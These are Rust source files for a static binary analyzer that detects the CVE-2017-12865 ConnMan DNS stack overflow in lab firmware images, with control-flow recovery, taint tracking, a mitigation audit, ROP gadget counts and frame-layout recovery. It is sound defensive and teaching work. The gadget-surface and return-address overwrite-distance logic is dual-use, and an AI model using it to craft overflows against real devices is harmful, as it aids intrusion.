                "{arch}: false positive on the bounds-checked image: {:?}",
                patched.findings
            ));
        }
        if !patched.exploitability.is_empty() {
            return Err(format!("{arch}: patched image has exploitability entries"));
        }
        lines.push(format!(
            "{arch}: {} functions, {} blocks, {} call edges, {} gadgets; \
             vulnerable flagged (ret at +{}), patched clean",
            report.cfg.functions,
            report.cfg.blocks,
            report.call_graph.edges,
            report.audit.gadget_total,
            truth.ret_offset
        ));
    }
    Ok(lines.join("\n"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use cml_firmware::build_image_for;
    use cml_image::Arch;

    #[test]
    fn self_test_passes() {
        let summary = self_test().expect("self-test");
        assert!(summary.contains("patched clean"));
    }

    #[test]
    fn report_json_exposes_findings_and_verdicts() {
        let (img, _) = build_image_for(Arch::X86, 0, false);
        let report = analyze(&img);
        let doc = json::parse(&report.to_json().to_string()).unwrap();
        assert_eq!(doc.get("clean").and_then(json::Value::as_bool), Some(false));
        let findings = doc.get("findings").and_then(json::Value::as_arr).unwrap();
        assert_eq!(findings.len(), 1);
        assert_eq!(
            findings[0].get("capacity").and_then(json::Value::as_num),
            Some(1024.0)
        );
        let verdicts = doc
            .get("exploitability")
            .and_then(json::Value::as_arr)
            .unwrap();
        assert_eq!(verdicts.len(), 1);
        assert_eq!(
            verdicts[0].get("buf_to_ret").and_then(json::Value::as_num),
            Some(1040.0)
        );
        assert_eq!(
            verdicts[0].get("unbounded").and_then(json::Value::as_bool),
            Some(true)
        );
        let frames = doc.get("frames").and_then(json::Value::as_arr).unwrap();
        assert!(frames.iter().any(|fr| {
            fr.get("function").and_then(json::Value::as_str) == Some("parse_response")
                && fr.get("buf_to_ret").and_then(json::Value::as_num) == Some(1040.0)
        }));
    }

    #[test]
    fn v1_documents_still_parse() {
        // A frozen v1 report fragment (pre-exploitability schema): old
        // consumers' documents must keep parsing with the same parser.
        let v1 = r#"{"schema":"cml-analyze/v1","arch":"x86","cfg":{"functions":9,"blocks":21,"instructions":120,"call_edges":0,"decode_hits":3,"decode_misses":117},"clean":false,"findings":[{"function":"parse_response","store_addr":"0x08048412","loop_head":"0x08048410","source":"DNS response bytes (parse_response argument)","sink":"1024-byte stack name buffer","capacity":1024}],"audit":{"wx_violations":["stack"],"canary_instrumented":false,"gadget_total":44,"sections":[]}}"#;
        let doc = json::parse(v1).expect("v1 parses");
        assert_eq!(
            doc.get("schema").and_then(json::Value::as_str),
            Some("cml-analyze/v1")
        );
        let findings = doc.get("findings").and_then(json::Value::as_arr).unwrap();
        assert_eq!(
            findings[0].get("capacity").and_then(json::Value::as_num),
            Some(1024.0)
        );
    }

    #[test]
    fn sarif_carries_the_store_address() {
        let (img, _) = build_image_for(Arch::Armv7, 0, false);
        let report = analyze(&img);
        let sarif = json::parse(&report.to_sarif().to_string()).unwrap();
        let runs = sarif.get("runs").and_then(json::Value::as_arr).unwrap();
        let results = runs[0]
            .get("results")
            .and_then(json::Value::as_arr)
            .unwrap();
        assert_eq!(results.len(), 1);
        let addr = results[0]
            .get("locations")
            .and_then(json::Value::as_arr)
            .and_then(|l| l[0].get("physicalLocation"))
            .and_then(|p| p.get("address"))
            .and_then(|a| a.get("absoluteAddress"))
            .and_then(json::Value::as_num)
            .unwrap();
        assert_eq!(addr as u32, report.findings[0].store_addr);

        // A patched image yields an empty (but valid) run.
        let (fixed, _) = build_image_for(Arch::Armv7, 0, true);
        let quiet = analyze(&fixed);
        let sarif = json::parse(&quiet.to_sarif().to_string()).unwrap();
        let runs = sarif.get("runs").and_then(json::Value::as_arr).unwrap();
        assert_eq!(
            runs[0]
                .get("results")
                .and_then(json::Value::as_arr)
                .map(<[_]>::len),
            Some(0)
        );
    }
}
