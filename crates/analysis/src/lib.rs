//! `cml-analyze`: static binary analysis for connman-lab firmware
//! images.
//!
//! Where the rest of the workspace *exploits* CVE-2017-12865, this
//! crate *detects* it without executing a single instruction:
//!
//! 1. [`cfg::recover`] lifts every function symbol into a control-flow
//!    graph using the VM's own decoders through a predecode memo (the
//!    static twin of the interpreter's decode cache).
//! 2. [`taint::taint_pass`] runs an abstract interpretation that flags
//!    DNS-response bytes flowing into a fixed-size stack buffer through
//!    a copy loop with no untainted bound — the `get_name` bug shape.
//!    It fires on the vulnerable 1.34 body and stays quiet on the
//!    bounds-checked 1.35 body.
//! 3. [`audit::audit`] reports the mitigation posture: W⊕X violations,
//!    canary instrumentation, and per-section gadget surface.
//!
//! [`analyze`] bundles all three into an [`AnalysisReport`] with a
//! stable machine-readable JSON rendering (`cml-analyze/v1`), and
//! [`self_test`] is the CI entry point behind `cml analyze
//! --self-test`.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod audit;
pub mod cfg;
pub mod json;
pub mod taint;

use cml_image::Image;

pub use audit::{AuditReport, SectionAudit};
pub use cfg::{Cfg, CfgStats};
pub use taint::{TaintConfig, TaintFinding};

/// Everything the analyzer has to say about one image.
#[derive(Debug, Clone)]
pub struct AnalysisReport {
    /// Architecture name (`"x86"` / `"armv7"` style, from the image).
    pub arch: String,
    /// CFG size metrics.
    pub cfg: CfgStats,
    /// Taint findings (empty on a patched image).
    pub findings: Vec<TaintFinding>,
    /// Mitigation posture.
    pub audit: AuditReport,
}

impl AnalysisReport {
    /// Whether the taint pass found nothing. The audit is intentionally
    /// excluded: an executable stack is a property of the deployment,
    /// not of the `parse_response` body.
    pub fn clean(&self) -> bool {
        self.findings.is_empty()
    }

    /// Renders the report as a `cml-analyze/v1` JSON document.
    pub fn to_json(&self) -> json::Value {
        use json::{n, s, Value};
        let hex = |a: u32| s(format!("{a:#010x}"));
        let findings = self
            .findings
            .iter()
            .map(|f| {
                Value::Obj(vec![
                    ("function".into(), s(f.function.clone())),
                    ("store_addr".into(), hex(f.store_addr)),
                    ("loop_head".into(), hex(f.loop_head)),
                    ("source".into(), s(f.source.clone())),
                    ("sink".into(), s(f.sink.clone())),
                    ("capacity".into(), n(f.capacity)),
                ])
            })
            .collect();
        let sections = self
            .audit
            .sections
            .iter()
            .map(|sec| {
                Value::Obj(vec![
                    ("name".into(), s(sec.name.clone())),
                    ("perms".into(), s(sec.perms.clone())),
                    ("size".into(), n(sec.size)),
                    ("executable".into(), Value::Bool(sec.executable)),
                    ("wx_violation".into(), Value::Bool(sec.wx_violation)),
                    ("gadgets".into(), n(sec.gadgets as u32)),
                    (
                        "gadget_density_per_kib".into(),
                        n(sec.gadget_density_per_kib),
                    ),
                ])
            })
            .collect();
        Value::Obj(vec![
            ("schema".into(), s("cml-analyze/v1")),
            ("arch".into(), s(self.arch.clone())),
            (
                "cfg".into(),
                Value::Obj(vec![
                    ("functions".into(), n(self.cfg.functions as u32)),
                    ("blocks".into(), n(self.cfg.blocks as u32)),
                    ("instructions".into(), n(self.cfg.instructions as u32)),
                    ("call_edges".into(), n(self.cfg.call_edges as u32)),
                    ("decode_hits".into(), n(self.cfg.decode_hits as u32)),
                    ("decode_misses".into(), n(self.cfg.decode_misses as u32)),
                ]),
            ),
            ("clean".into(), Value::Bool(self.clean())),
            ("findings".into(), Value::Arr(findings)),
            (
                "audit".into(),
                Value::Obj(vec![
                    (
                        "wx_violations".into(),
                        Value::Arr(
                            self.audit
                                .wx_violations
                                .iter()
                                .map(|v| s(v.clone()))
                                .collect(),
                        ),
                    ),
                    (
                        "canary_instrumented".into(),
                        Value::Bool(self.audit.canary_instrumented),
                    ),
                    ("gadget_total".into(), n(self.audit.gadget_total as u32)),
                    ("sections".into(), Value::Arr(sections)),
                ]),
            ),
        ])
    }
}

/// Runs the full pipeline — CFG recovery, taint pass, mitigation
/// audit — over one image with the default [`TaintConfig`].
pub fn analyze(image: &Image) -> AnalysisReport {
    analyze_with(image, &TaintConfig::default())
}

/// [`analyze`] with an explicit source/sink configuration.
pub fn analyze_with(image: &Image, config: &TaintConfig) -> AnalysisReport {
    let cfg = cfg::recover(image);
    let findings = taint::taint_pass(&cfg, config);
    let audit = audit::audit(image, &cfg);
    AnalysisReport {
        arch: image.arch().to_string(),
        cfg: cfg.stats,
        findings,
        audit,
    }
}

/// The analyzer's CI gate, run by `cml analyze --self-test`.
///
/// For each architecture it analyzes a vulnerable and a bounds-checked
/// image and checks the end-to-end contract: exactly one taint finding
/// on the vulnerable body (in `parse_response`, 1024-byte sink), zero
/// on the patched body, an executable-stack W⊕X violation and no
/// canaries under the no-protection loader, and a JSON rendering that
/// round-trips through the crate's own parser.
///
/// # Errors
///
/// Returns a description of the first violated check.
pub fn self_test() -> Result<String, String> {
    use cml_image::Arch;
    let mut lines = Vec::new();
    for arch in Arch::ALL {
        let (vuln, _) = cml_firmware::build_image_for(arch, 0, false);
        let report = analyze(&vuln);
        if report.findings.len() != 1 {
            return Err(format!(
                "{arch}: expected exactly 1 taint finding on the vulnerable image, got {}",
                report.findings.len()
            ));
        }
        let f = &report.findings[0];
        if f.function != cml_connman::SYM_PARSE_RESPONSE {
            return Err(format!(
                "{arch}: finding in {}, not parse_response",
                f.function
            ));
        }
        if f.capacity != cml_connman::NAME_BUFFER_SIZE as u32 {
            return Err(format!("{arch}: sink capacity {} != 1024", f.capacity));
        }
        if report.audit.wx_violations.is_empty() {
            return Err(format!("{arch}: audit missed the executable stack"));
        }
        if report.audit.canary_instrumented {
            return Err(format!(
                "{arch}: lab images must not appear canary-instrumented"
            ));
        }
        let text = report.to_json().to_string();
        let parsed =
            json::parse(&text).map_err(|e| format!("{arch}: emitted JSON invalid: {e}"))?;
        if parsed.get("schema").and_then(json::Value::as_str) != Some("cml-analyze/v1") {
            return Err(format!("{arch}: schema tag missing after round-trip"));
        }

        let (fixed, _) = cml_firmware::build_image_for(arch, 0, true);
        let patched = analyze(&fixed);
        if !patched.clean() {
            return Err(format!(
                "{arch}: false positive on the bounds-checked image: {:?}",
                patched.findings
            ));
        }
        lines.push(format!(
            "{arch}: {} functions, {} blocks, {} gadgets; vulnerable flagged, patched clean",
            report.cfg.functions, report.cfg.blocks, report.audit.gadget_total
        ));
    }
    Ok(lines.join("\n"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use cml_firmware::build_image_for;
    use cml_image::Arch;

    #[test]
    fn self_test_passes() {
        let summary = self_test().expect("self-test");
        assert!(summary.contains("patched clean"));
    }

    #[test]
    fn report_json_exposes_findings() {
        let (img, _) = build_image_for(Arch::X86, 0, false);
        let report = analyze(&img);
        let doc = json::parse(&report.to_json().to_string()).unwrap();
        assert_eq!(doc.get("clean").and_then(json::Value::as_bool), Some(false));
        let findings = doc.get("findings").and_then(json::Value::as_arr).unwrap();
        assert_eq!(findings.len(), 1);
        assert_eq!(
            findings[0].get("capacity").and_then(json::Value::as_num),
            Some(1024.0)
        );
    }
}
