//! Control-flow-graph recovery over firmware images.
//!
//! Function boundaries come from the image's symbol table (the lab's
//! stand-in for `.symtab`); instruction lifting uses the VM's own
//! decoders through a per-address memo table — the same predecoding
//! idea the interpreter's decode cache uses at run time, applied
//! statically so no byte is decoded twice across passes.

use std::collections::{BTreeMap, BTreeSet};

use cml_image::{Addr, Arch, Image, SymbolKind};
use cml_vm::{arm, riscv, x86};

use crate::predecode::Predecoder;

/// One lifted instruction from any of the three ISAs.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum Op {
    /// An IA-32 instruction.
    X86(x86::Insn),
    /// An A32 instruction.
    Arm(arm::Insn),
    /// An RV32IC instruction (compressed forms pre-expanded).
    Riscv(riscv::Insn),
}

/// A lifted instruction with its location.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct LiftedInsn {
    /// Virtual address.
    pub addr: Addr,
    /// Encoded length in bytes.
    pub len: u32,
    /// The decoded operation.
    pub op: Op,
}

/// How a basic block transfers control.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Terminator {
    /// Function return (`ret`, `pop {.., pc}`, `bx lr`).
    Return,
    /// Unconditional direct branch.
    Jump(Addr),
    /// Conditional direct branch.
    Branch {
        /// Target when the condition holds.
        taken: Addr,
        /// Fall-through address.
        fall: Addr,
    },
    /// Direct call; control resumes at `fall`.
    Call {
        /// Callee entry.
        target: Addr,
        /// Return site.
        fall: Addr,
    },
    /// Indirect transfer through a register or memory operand.
    Indirect,
    /// `hlt` or an undecodable tail.
    Halt,
    /// Straight-line flow into the next block.
    FallThrough(Addr),
}

/// A maximal straight-line run of instructions.
#[derive(Debug, Clone)]
pub struct BasicBlock {
    /// First instruction address.
    pub start: Addr,
    /// One past the last instruction byte.
    pub end: Addr,
    /// The block's instructions, in address order.
    pub insns: Vec<LiftedInsn>,
    /// How the block exits.
    pub term: Terminator,
    /// Successor block starts *within the same function*.
    pub succs: Vec<Addr>,
}

/// A recovered function: symbol name plus its basic blocks.
#[derive(Debug, Clone)]
pub struct Function {
    /// Symbol name.
    pub name: String,
    /// Entry address.
    pub entry: Addr,
    /// Declared size in bytes.
    pub size: u32,
    /// Basic blocks in address order.
    pub blocks: Vec<BasicBlock>,
    /// `true` when lifting stopped early on an undecodable byte.
    pub truncated: bool,
}

impl Function {
    /// The block starting at `addr`, if any.
    pub fn block_at(&self, addr: Addr) -> Option<&BasicBlock> {
        self.blocks.iter().find(|b| b.start == addr)
    }
}

/// A direct call resolved through the symbol table.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CallEdge {
    /// Calling function's name.
    pub caller: String,
    /// Callee's symbol name (or `"<unresolved>"`).
    pub callee: String,
    /// Address of the call instruction.
    pub at: Addr,
}

/// Aggregate size metrics, for the report.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct CfgStats {
    /// Functions recovered.
    pub functions: usize,
    /// Basic blocks across all functions.
    pub blocks: usize,
    /// Instructions lifted.
    pub instructions: usize,
    /// Direct call edges.
    pub call_edges: usize,
    /// Predecode-memo hits (an address decoded once, consumed again).
    pub decode_hits: u64,
    /// Predecode-memo misses (fresh decodes).
    pub decode_misses: u64,
}

/// The whole-image control-flow graph.
#[derive(Debug, Clone)]
pub struct Cfg {
    /// Image architecture.
    pub arch: Arch,
    /// Recovered functions in address order.
    pub functions: Vec<Function>,
    /// Direct call edges.
    pub call_edges: Vec<CallEdge>,
    /// Size metrics.
    pub stats: CfgStats,
}

impl Cfg {
    /// The function named `name`, if recovered.
    pub fn function(&self, name: &str) -> Option<&Function> {
        self.functions.iter().find(|f| f.name == name)
    }
}

/// Control-flow class of a single instruction.
enum Flow {
    Seq,
    Jump(Addr),
    Cond(Addr),
    Call(Addr),
    IndirectJump,
    IndirectCall,
    Return,
    Halt,
}

fn flow_of(insn: &LiftedInsn) -> Flow {
    let next = insn.addr.wrapping_add(insn.len);
    match insn.op {
        Op::X86(i) => match i {
            x86::Insn::Ret | x86::Insn::RetImm16(_) => Flow::Return,
            x86::Insn::JmpRel8(d) => Flow::Jump(next.wrapping_add(d as i32 as u32)),
            x86::Insn::JmpRel32(d) => Flow::Jump(next.wrapping_add(d as u32)),
            x86::Insn::Jz8(d) | x86::Insn::Jnz8(d) => {
                Flow::Cond(next.wrapping_add(d as i32 as u32))
            }
            x86::Insn::Jz32(d) | x86::Insn::Jnz32(d) => Flow::Cond(next.wrapping_add(d as u32)),
            x86::Insn::CallRel32(d) => Flow::Call(next.wrapping_add(d as u32)),
            x86::Insn::CallRm(_) => Flow::IndirectCall,
            x86::Insn::JmpRm(_) => Flow::IndirectJump,
            x86::Insn::Hlt => Flow::Halt,
            _ => Flow::Seq,
        },
        Op::Arm(i) => match i {
            // Branch offsets are relative to pc + 8 (A32 pipeline).
            arm::Insn::B { offset } => {
                Flow::Jump(insn.addr.wrapping_add(8).wrapping_add(offset as u32))
            }
            arm::Insn::BEq { offset } | arm::Insn::BNe { offset } => {
                Flow::Cond(insn.addr.wrapping_add(8).wrapping_add(offset as u32))
            }
            arm::Insn::Bl { offset } => {
                Flow::Call(insn.addr.wrapping_add(8).wrapping_add(offset as u32))
            }
            arm::Insn::Bx { rm } => {
                if rm == 14 {
                    Flow::Return
                } else {
                    Flow::IndirectJump
                }
            }
            arm::Insn::Blx { .. } => Flow::IndirectCall,
            arm::Insn::Pop { list } if list & (1 << 15) != 0 => Flow::Return,
            _ => Flow::Seq,
        },
        Op::Riscv(i) => match i {
            // Branch/jump offsets are relative to the instruction itself.
            riscv::Insn::Jalr {
                rd: 0,
                rs1: 1,
                offset: 0,
            } => Flow::Return,
            riscv::Insn::Jal { rd: 0, offset } => Flow::Jump(insn.addr.wrapping_add(offset as u32)),
            riscv::Insn::Jal { offset, .. } => Flow::Call(insn.addr.wrapping_add(offset as u32)),
            riscv::Insn::Jalr { rd: 0, .. } => Flow::IndirectJump,
            riscv::Insn::Jalr { .. } => Flow::IndirectCall,
            riscv::Insn::Beq { offset, .. } | riscv::Insn::Bne { offset, .. } => {
                Flow::Cond(insn.addr.wrapping_add(offset as u32))
            }
            riscv::Insn::Ebreak => Flow::Halt,
            _ => Flow::Seq,
        },
    }
}

/// Recovers the control-flow graph of every `Function` symbol living in
/// an executable section.
pub fn recover(image: &Image) -> Cfg {
    let mut pred = Predecoder::new(image);
    // Symbol map for call resolution: addr -> name.
    let by_addr: BTreeMap<Addr, &str> = image
        .symbols()
        .iter()
        .filter(|s| {
            matches!(
                s.kind(),
                SymbolKind::Function | SymbolKind::PltEntry | SymbolKind::LibcFunction
            )
        })
        .map(|s| (s.addr(), s.name()))
        .collect();

    let mut functions = Vec::new();
    let mut call_edges = Vec::new();
    let mut syms: Vec<_> = image
        .symbols()
        .iter()
        .filter(|s| s.kind() == SymbolKind::Function)
        .filter(|s| {
            image
                .section_containing(s.addr())
                .is_some_and(|sec| sec.perms().executable())
        })
        .collect();
    syms.sort_by_key(|s| s.addr());

    for sym in syms {
        let f = lift_function(sym.name(), sym.addr(), sym.size(), &mut pred);
        for block in &f.blocks {
            if let Terminator::Call { target, .. } = block.term {
                call_edges.push(CallEdge {
                    caller: f.name.clone(),
                    callee: by_addr
                        .get(&target)
                        .map_or_else(|| "<unresolved>".to_string(), |n| (*n).to_string()),
                    at: block.insns.last().map_or(block.start, |i| i.addr),
                });
            }
        }
        functions.push(f);
    }

    let stats = CfgStats {
        functions: functions.len(),
        blocks: functions.iter().map(|f| f.blocks.len()).sum(),
        instructions: functions
            .iter()
            .map(|f| f.blocks.iter().map(|b| b.insns.len()).sum::<usize>())
            .sum(),
        call_edges: call_edges.len(),
        decode_hits: pred.hits(),
        decode_misses: pred.misses(),
    };

    Cfg {
        arch: image.arch(),
        functions,
        call_edges,
        stats,
    }
}

fn lift_function(name: &str, entry: Addr, size: u32, pred: &mut Predecoder<'_>) -> Function {
    let end = entry.wrapping_add(size.max(4));
    let in_span = |a: Addr| a >= entry && a < end;

    // Pass 1: linear decode of the whole span.
    let mut insns: Vec<LiftedInsn> = Vec::new();
    let mut truncated = false;
    let mut addr = entry;
    while addr < end {
        match pred.decode_at(addr) {
            Some((op, len)) => {
                insns.push(LiftedInsn { addr, len, op });
                addr = addr.wrapping_add(len);
            }
            None => {
                truncated = true;
                break;
            }
        }
    }

    // Pass 2: leaders = entry, branch targets in span, fall-throughs of
    // control transfers.
    let mut leaders: BTreeSet<Addr> = BTreeSet::new();
    leaders.insert(entry);
    for insn in &insns {
        let next = insn.addr.wrapping_add(insn.len);
        match flow_of(insn) {
            Flow::Jump(t) => {
                if in_span(t) {
                    leaders.insert(t);
                }
                if in_span(next) {
                    leaders.insert(next);
                }
            }
            Flow::Cond(t) => {
                if in_span(t) {
                    leaders.insert(t);
                }
                if in_span(next) {
                    leaders.insert(next);
                }
            }
            Flow::Call(_) | Flow::IndirectCall => {
                // Calls return; the next instruction continues the block
                // only conceptually — treat it as a leader so the call
                // terminates its block (call edges live on terminators).
                if in_span(next) {
                    leaders.insert(next);
                }
            }
            Flow::Return | Flow::IndirectJump | Flow::Halt => {
                if in_span(next) {
                    leaders.insert(next);
                }
            }
            Flow::Seq => {}
        }
    }

    // Pass 3: split at leaders and attach terminators/successors.
    let starts: Vec<Addr> = leaders.into_iter().collect();
    let mut blocks: Vec<BasicBlock> = Vec::new();
    for (bi, &start) in starts.iter().enumerate() {
        let stop = starts.get(bi + 1).copied().unwrap_or(end);
        let body: Vec<LiftedInsn> = insns
            .iter()
            .filter(|i| i.addr >= start && i.addr < stop)
            .copied()
            .collect();
        let Some(last) = body.last().copied() else {
            continue;
        };
        let block_end = last.addr.wrapping_add(last.len);
        let term = match flow_of(&last) {
            Flow::Return => Terminator::Return,
            Flow::Jump(t) => Terminator::Jump(t),
            Flow::Cond(t) => Terminator::Branch {
                taken: t,
                fall: block_end,
            },
            Flow::Call(t) => Terminator::Call {
                target: t,
                fall: block_end,
            },
            Flow::IndirectJump | Flow::IndirectCall => Terminator::Indirect,
            Flow::Halt => Terminator::Halt,
            Flow::Seq => Terminator::FallThrough(block_end),
        };
        let mut succs = Vec::new();
        match term {
            Terminator::Jump(t) => {
                if in_span(t) {
                    succs.push(t);
                }
            }
            Terminator::Branch { taken, fall } => {
                if in_span(taken) {
                    succs.push(taken);
                }
                if in_span(fall) {
                    succs.push(fall);
                }
            }
            Terminator::Call { fall, .. } => {
                if in_span(fall) {
                    succs.push(fall);
                }
            }
            Terminator::FallThrough(next) => {
                if in_span(next) {
                    succs.push(next);
                }
            }
            Terminator::Return | Terminator::Indirect | Terminator::Halt => {}
        }
        blocks.push(BasicBlock {
            start,
            end: block_end,
            insns: body,
            term,
            succs,
        });
    }

    Function {
        name: name.to_string(),
        entry,
        size,
        blocks,
        truncated,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cml_firmware::build_image_for;

    #[test]
    fn recovers_parse_response_loop_on_both_arches() {
        for arch in Arch::ALL {
            let (img, _) = build_image_for(arch, 0, false);
            let cfg = recover(&img);
            let f = cfg.function("parse_response").expect("function recovered");
            assert!(!f.truncated, "{arch}: body must decode fully");
            assert!(f.blocks.len() >= 3, "{arch}: prologue/loop/exit blocks");
            // Exactly one return, and at least one back edge (the loop).
            let rets = f
                .blocks
                .iter()
                .filter(|b| b.term == Terminator::Return)
                .count();
            assert_eq!(rets, 1, "{arch}");
            let back_edges = f
                .blocks
                .iter()
                .flat_map(|b| b.succs.iter().map(move |s| (b.start, *s)))
                .filter(|(from, to)| to <= from)
                .count();
            assert!(back_edges >= 1, "{arch}: copy loop missing");
        }
    }

    #[test]
    fn predecode_memo_pays_off_across_analyses() {
        let (img, _) = build_image_for(Arch::X86, 0, false);
        let first = recover(&img);
        assert!(first.stats.decode_misses > 0);
        assert!(first.stats.instructions > 0);
    }
}
