//! Mitigation audit: W⊕X posture, stack-canary instrumentation, and
//! per-section gadget surface.
//!
//! The audit is deliberately separate from the taint pass: taint
//! findings are about the *code* (and vanish on the patched body),
//! while the audit describes the *deployment* — an image loaded with
//! the no-protection profile keeps an executable stack regardless of
//! which `parse_response` flavour it carries, exactly as the paper's
//! OpenElec target does.

use cml_exploit::GadgetSet;
use cml_image::Image;

use crate::cfg::Cfg;

/// Audit row for one section.
#[derive(Debug, Clone, PartialEq)]
pub struct SectionAudit {
    /// Section name (`".text"`, `"[stack]"`, ...).
    pub name: String,
    /// Permission string, `"rwx"` style.
    pub perms: String,
    /// Section size in bytes.
    pub size: u32,
    /// Whether the section is executable.
    pub executable: bool,
    /// Whether the section is both writable and executable.
    pub wx_violation: bool,
    /// ROP/JOP gadgets found in the section (fixed sections only; the
    /// scanner skips ASLR-randomized regions).
    pub gadgets: usize,
    /// Gadgets per KiB of section, the paper's surface metric.
    pub gadget_density_per_kib: f64,
}

/// Whole-image mitigation report.
#[derive(Debug, Clone, PartialEq)]
pub struct AuditReport {
    /// Names of sections mapped writable *and* executable.
    pub wx_violations: Vec<String>,
    /// Whether any call edge targets a `__stack_chk`-style guard —
    /// i.e. whether the compiler emitted stack canaries.
    pub canary_instrumented: bool,
    /// Total gadget count across fixed executable sections.
    pub gadget_total: usize,
    /// Per-section rows, in image order.
    pub sections: Vec<SectionAudit>,
}

/// Audits an image's mitigation posture.
pub fn audit(image: &Image, cfg: &Cfg) -> AuditReport {
    let gadgets = GadgetSet::scan(image);
    let mut sections = Vec::new();
    let mut wx_violations = Vec::new();
    for section in image.sections() {
        let name = section.kind().name().to_string();
        let in_section = gadgets.iter().filter(|g| section.contains(g.addr)).count();
        let wx = section.perms().violates_wxorx();
        if wx {
            wx_violations.push(name.clone());
        }
        let kib = f64::from(section.size().max(1)) / 1024.0;
        sections.push(SectionAudit {
            name,
            perms: section.perms().to_string(),
            size: section.size(),
            executable: section.perms().executable(),
            wx_violation: wx,
            gadgets: in_section,
            gadget_density_per_kib: in_section as f64 / kib,
        });
    }
    AuditReport {
        wx_violations,
        canary_instrumented: cfg
            .call_edges
            .iter()
            .any(|e| e.callee.contains("stack_chk")),
        gadget_total: gadgets.len(),
        sections,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cfg;
    use cml_firmware::build_image_for;
    use cml_image::Arch;

    #[test]
    fn flags_executable_stack_and_counts_gadgets() {
        for arch in Arch::ALL {
            let (img, _) = build_image_for(arch, 0, false);
            let report = audit(&img, &cfg::recover(&img));
            assert!(
                report.wx_violations.iter().any(|n| n == "[stack]"),
                "{arch}: no-protection stack must be rwx"
            );
            assert!(report.gadget_total > 0, "{arch}");
            assert!(
                !report.canary_instrumented,
                "{arch}: lab images carry no canaries"
            );
            let text = report
                .sections
                .iter()
                .find(|s| s.name == ".text")
                .expect("text row");
            assert!(text.executable && !text.wx_violation, "{arch}");
            assert!(text.gadget_density_per_kib > 0.0, "{arch}");
        }
    }
}
