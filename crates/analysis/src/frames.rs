//! Per-function stack-frame layout recovery.
//!
//! Walks each recovered function's entry block and interprets the
//! prologue the way a debugger's unwinder would: register saves, the
//! frame-pointer handoff, the stack carve, and the first frame-relative
//! address taken (the buffer slot). All offsets are **entry-SP
//! relative**: offset 0 is the stack pointer value at the function's
//! first instruction, negative offsets grow down into the frame.
//!
//! * x86: the caller's `call` leaves the return address *at* entry SP,
//!   so `ret_offset` is always 0. `push ebp; mov ebp,esp` puts the
//!   frame pointer at −4, `sub esp, N` carves locals, and
//!   `lea r, [ebp−d]` reveals a buffer at `−4 − d + 4 = −d` … i.e.
//!   `fp_offset + d`.
//! * ARM: the return address arrives in `lr` and only reaches the stack
//!   via `push {…, lr}`; `lr` is the highest-numbered register in the
//!   list, so it lands at the highest address of the save area.
//!   A leaf that never pushes `lr` has no saved-return slot
//!   (`ret_offset == None`) and cannot be hijacked by a stack smash.
//!
//! The recovered `buf_to_ret` distance is the number the exploit layer
//! measures dynamically (`FrameRecon::ret_offset`); the oracle tests
//! pin the two against each other byte-for-byte.

use cml_image::Arch;
use cml_vm::{x86, X86Reg};

use crate::cfg::{Cfg, Function, Op};

/// Recovered frame layout for one function, entry-SP relative.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FrameInfo {
    /// Function name.
    pub function: String,
    /// Bytes of locals carved by the prologue (`sub esp/sp, N`).
    pub frame_size: u32,
    /// Registers the prologue saves on the stack.
    pub saved_regs: u32,
    /// Offset of the lowest frame-relative address taken in the entry
    /// block — the buffer the body writes through.
    pub buf_offset: Option<i64>,
    /// Offset of the saved return address (x86: always 0; ARM: the
    /// `lr` slot of the prologue push, absent for true leaves).
    pub ret_offset: Option<i64>,
    /// Offset of a stack-guard slot. `Some` only for canary-
    /// instrumented builds; the lab firmware images are uninstrumented,
    /// so recovery reports `None` and the exploitability layer instead
    /// reasons about *hypothetical* canary placement.
    pub canary_offset: Option<i64>,
}

impl FrameInfo {
    /// Bytes from the buffer's first byte up to the saved return
    /// address — the overwrite distance an exploit must cover.
    pub fn buf_to_ret(&self) -> Option<i64> {
        match (self.buf_offset, self.ret_offset) {
            (Some(buf), Some(ret)) => Some(ret - buf),
            _ => None,
        }
    }
}

/// Recovers the frame layout of every function in the CFG.
pub fn recover_frames(cfg: &Cfg) -> Vec<FrameInfo> {
    cfg.functions
        .iter()
        .map(|f| frame_of(cfg.arch, f))
        .collect()
}

/// The frame layout of one function.
pub fn frame_of(arch: Arch, f: &Function) -> FrameInfo {
    let mut info = FrameInfo {
        function: f.name.clone(),
        frame_size: 0,
        saved_regs: 0,
        buf_offset: None,
        ret_offset: match arch {
            Arch::X86 => Some(0),
            Arch::Armv7 | Arch::Riscv => None,
        },
        canary_offset: None,
    };
    let Some(entry) = f.blocks.first() else {
        return info;
    };

    // Entry-SP-relative cursor of the stack pointer, and (x86) of the
    // frame pointer once established.
    let mut sp: i64 = 0;
    let mut fp: Option<i64> = None;
    let take_buf = |info: &mut FrameInfo, candidate: i64| {
        if candidate < 0 && info.buf_offset.is_none_or(|cur| candidate < cur) {
            info.buf_offset = Some(candidate);
        }
    };

    for insn in &entry.insns {
        match insn.op {
            Op::X86(i) => {
                use x86::Insn as I;
                use x86::Operand as O;
                match i {
                    I::PushR(_) => {
                        sp -= 4;
                        info.saved_regs += 1;
                    }
                    I::PushImm(_) => sp -= 4,
                    I::MovRmR {
                        dst: O::Reg(X86Reg::Ebp),
                        src: X86Reg::Esp,
                    } => fp = Some(sp),
                    I::SubRmImm8 {
                        dst: O::Reg(X86Reg::Esp),
                        imm,
                    } => {
                        sp -= imm as i64;
                        info.frame_size += imm as u32;
                    }
                    I::SubRmImm32 {
                        dst: O::Reg(X86Reg::Esp),
                        imm,
                    } => {
                        sp -= imm as i64;
                        info.frame_size += imm;
                    }
                    I::Lea {
                        src:
                            O::Mem {
                                base: Some(base),
                                disp,
                            },
                        ..
                    } => {
                        let anchor = match base {
                            X86Reg::Ebp => fp,
                            X86Reg::Esp => Some(sp),
                            _ => None,
                        };
                        if let Some(a) = anchor {
                            take_buf(&mut info, a + disp as i64);
                        }
                    }
                    _ => {}
                }
            }
            Op::Arm(i) => {
                use cml_vm::arm::{reg_list, Insn as I};
                match i {
                    I::Push { list } => {
                        let regs = reg_list(list);
